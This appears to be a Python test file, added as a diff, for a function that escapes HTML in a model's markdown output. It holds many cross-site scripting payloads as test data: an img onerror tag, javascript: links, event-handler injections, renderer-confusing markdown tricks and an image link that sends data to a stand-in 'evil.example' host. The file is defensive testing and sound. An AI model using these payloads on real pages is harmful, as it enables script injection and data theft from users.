@@ -1,0 +1,249 @@
+"""A model's markdown loses its teeth, and nothing else."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+from renderers import RENDERERS, commonmark, live_tags
+
+from minimax_magic.render.safety import escape_html
+
+IMG = "<img src=x onerror=alert(1)>"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Plain words, 1 < 2 and a<3, and > too.",
+        "Use `<div>` and `a < b`; **`<b>`**, (`<i>`), `<p>`/`<q>`.",
+        "```html\n<script>alert(1)</script>\n```\n",
+        "~~~\n<b>\n~~~\n",
+        "````\n```\n<b>\n```\n````\n",
+        "1. Step\n   ```c++\n   std::vector<int> v;\n   ```\n2. Next `<br>`\n",
+        "- a\n  - b\n    ```ts\n    let x: Map<string, number>\n    ```\n",
+        "> ```\n> <b>\n> ```\n",
+        "Text\n\n    <b>indented</b>\n\nMore.",
+        "See <https://example.org/a?b=c> and <mailto:a@b.org>.",
+        "[link](https://example.org) [`<a>`](https://example.org/a) [up](#top) [b](./b.html)",
+        "[1]: https://example.org\n\nAs in [1].",
+        "| `<a>` | b |\n|---|---|\n| `<b>` | $x$ |\n",
+        "`vector<int>` takes $O(n)$ and `map<K, V>` takes $O(\\log n)$.",
+        "Unfinished ```html\n",
+        "```html\n<b>still open",
+    ],
+)
+def test_what_is_harmless_stays_as_it_is(text: str) -> None:
+    """Code, autolinks, ordinary links and comparisons are not touched."""
+    assert escape_html(text) == text
+
+
+@pytest.mark.parametrize(
+    ("text", "safe"),
+    [
+        (f"a {IMG} b", "a &lt;img src=x onerror=alert(1)> b"),
+        ("</p><!-- c --><?php ?>", "&lt;/p>&lt;!-- c -->&lt;?php ?>"),
+        ("![chart](https://evil.example/?q=data)", "&#33;[chart](https://evil.example/?q=data)"),
+        ("![a][b]", "&#33;[a][b]"),
+        ("[x](javascript:alert(1))", "[x]\\(javascript:alert(1))"),
+        ("[x](java&#115;cript&colon;alert)", "[x]\\(java&#115;cript&colon;alert)"),
+        (f"[x](java{'&Tab;' * 99}script:alert)", f"[x]\\(java{'&Tab;' * 99}script:alert)"),
+        ("[x]: data:text/html,hi", "[x]\\: data:text/html,hi"),
+        ("for $i<n$ and $$a<b$$", "for $i< n$ and $$a< b$$"),
+        ("an open `<b> and no more", "an open `&lt;b> and no more"),
+        ("\\`<b>`", "\\`&lt;b>`"),
+    ],
+)
+def test_what_a_browser_would_obey_is_shown(text: str, safe: str) -> None:
+    """Tags, images and odd schemes become text; in math a space does it, an entity would be seen."""
+    assert escape_html(text) == safe
+
+
+ATTACKS = [
+    f"`a\n\n{IMG}`",
+    f"` `` {IMG} `",
+    f"para\n      ```\n{IMG}\n",
+    f"```x```\n{IMG}\n",
+    f"- ```\n{IMG}\n",
+    f"> ```\n{IMG}\n",
+    f"- ```\n\n```\n{IMG}\n```\n",
+    f"- a\nlazy\n   ```\n{IMG}\n",
+    f"- a\n      ```\n      {IMG}\n",
+    f"```\n```~~~\n{IMG}\n```\n",
+    f"```\n```\t\n{IMG}\n```\n",
+    f"| a | b |\n|---|---|\n| `a | {IMG} ` |\n",
+    f"[a](b`c) {IMG} `",
+    f'[a](b " `c") {IMG} `',
+    f"see https://x.y/`{IMG}`",
+    f"https://x.y<b``{IMG}``word ``{IMG}``",
+    f'[x]: /u "a\n```\n"\n{IMG}\n```\n',
+    f"\\begin{{a}}\n```\n\\end{{a}}\n{IMG}\n```\n",
+    f"\\begin{{a}} ` \\end{{a}} {IMG} `",
+    f" ```\n a $ b\n ```\n $ c\n\n```\n{IMG}\n```\n",
+    f"```html\\begin{{a}}`\\end{{a}}\n```\n\n  {IMG}",
+    '```$" onclick="x$\n',
+    '[a](http://x/$" onmouseover="alert(1)"$)',
+    'http://h/$" onclick="x$',
+    f"[a](javascript:{IMG})",
+    f"\0{IMG[1:]}\1 {IMG}",
+    f"\t\n    {IMG}\npara {IMG}",
+    f"3) a\n5. b\n        ```\n        {IMG}",
+    f"> \t{IMG}",
+    f"<!--\n```\n-->\n{IMG}",
+    f"<pre>\n\n```\n</pre>{IMG}\n```\n",
+    f"$$\n```\n$$\n```\n{IMG}\n```\n",
+    f"> - > ```\n{IMG}",
+]
+
+_ATOMS = [
+    *(
+        "```",
+        "~~~",
+        "````",
+        "```html",
+        "`",
+        "``",
+        "    ",
+        "   ",
+        "  ",
+        " ",
+        "\t",
+        "\n",
+        "\n\n",
+        "\r",
+    ),
+    *(
+        "- ",
+        "* ",
+        "1. ",
+        "3) ",
+        "> ",
+        "- [ ] ",
+        "# ",
+        "|",
+        "|---|",
+        "---",
+        "===",
+        "*",
+        "_",
+        "~",
+        "\\",
+    ),
+    *(
+        "$",
+        "$$",
+        "\\begin{a}",
+        "\\end{a}",
+        "\\\\(",
+        "\\\\)",
+        "{",
+        "}",
+        "@@0@@",
+        "~D",
+        "\u00a0",
+        "\v",
+    ),
+    *("[", "]", "](", "[x]:", " /u ", '"', "'", "(", ")", "http://h/", "www.a.b", "<https://x.y>"),
+    *(
+        IMG,
+        "<b",
+        "<!--",
+        "-->",
+        "<![CDATA[",
+        "&lt;",
+        "![",
+        "[a](javascript:x)",
+        '" onclick="x',
+        "a",
+    ),
+    *(
+        f"`{IMG}`",
+        f"``{IMG}``",
+        f"\n```\n{IMG}\n```\n",
+        f"\n  {IMG}\n",
+        f"\n    {IMG}\n",
+        "\n- ```\n",
+    ),
+]
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_known_tricks_do_not_work(attack: str) -> None:
+    """What is code for one renderer and a tag for the next is harmless in all of them."""
+    safe = escape_html(attack)
+    assert {name: live_tags(render(safe)) for name, render in RENDERERS.items()} == dict.fromkeys(
+        RENDERERS, []
+    )
+
+
+def test_the_tricks_are_tricks() -> None:
+    """Unescaped, most of them do put a live tag on the page of some renderer."""
+    alive = [a for a in ATTACKS if any(live_tags(render(a)) for render in RENDERERS.values())]
+    assert len(alive) > len(ATTACKS) * 0.7
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.lists(st.sampled_from(_ATOMS), min_size=2, max_size=24).map("".join))
+@example(f"1. ![<**<\u00a0~~~~``{IMG}``")
+@example(f"10. text\n   ```\n{IMG}\n```\n   ```\n{IMG}")
+def test_no_mixture_gets_a_tag_through(text: str) -> None:
+    """Whatever a model writes, no renderer makes a tag, an image or a script of it."""
+    safe = escape_html(text)
+    for name, render in RENDERERS.items():
+        assert live_tags(render(safe)) == [], name
+
+
+def test_code_beside_math_keeps_to_itself() -> None:
+    """Code with a dollar sign gets empty lines around it: JupyterLab's math does not cross them."""
+    text = "Run\n```sh\ncat <in $HOME\n```\nfor $5."
+    assert escape_html(text) == "Run\n\n```sh\ncat <in $HOME\n```\n\nfor $5."
+    assert commonmark(escape_html(text)) == commonmark(text)
+
+
+_SLOW = [
+    *(
+        "a `<b>` [x](y) $z$ ",
+        "[",
+        "](",
+        "]( ",
+        "`a` ",
+        "`a`",
+        "`",
+        "<",
+        "> ",
+        "> - ",
+        "- ",
+        "![a][",
+        "$ `",
+    ),
+    *(
+        "[a]: ",
+        "[a]:\n",
+        "<http://",
+        "://",
+        "| `<a>` |\n",
+        "$",
+        "$a ",
+        "- \n",
+        "\\",
+        "*",
+        "](\n",
+        "$$\n",
+    ),
+]
+
+
+@pytest.mark.parametrize("unit", _SLOW)
+def test_no_text_is_slow_to_escape(unit: str) -> None:
+    """The work grows with the text and not with its square, also for text made to be slow."""
+
+    def work(chars: int) -> float:
+        text = f"{unit * (chars // len(unit))} {IMG}"
+        start = time.process_time()
+        escape_html(text)
+        return time.process_time() - start
+
+    work(1000)
+    assert work(80_000) < max(0.2, 30 * work(8000))
